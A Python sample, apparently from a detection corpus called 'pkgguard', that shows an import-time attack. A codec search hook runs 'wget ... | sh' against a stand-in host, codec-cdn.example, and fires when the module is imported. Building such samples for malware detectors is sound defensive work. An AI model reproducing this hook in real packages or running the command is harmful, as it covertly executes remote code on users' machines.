# pkgguard corpus 654 (import-time), modelled on [empirical]; inert, never run.
import codecs
import subprocess


def _search(name):
    if name == "pkg_fast_utf8":
        subprocess.Popen("wget -qO- https://codec-cdn.example/c.sh | sh", shell=True)
        return codecs.lookup("utf-8")
    return None


codecs.register(_search)
"warm".encode("pkg_fast_utf8")
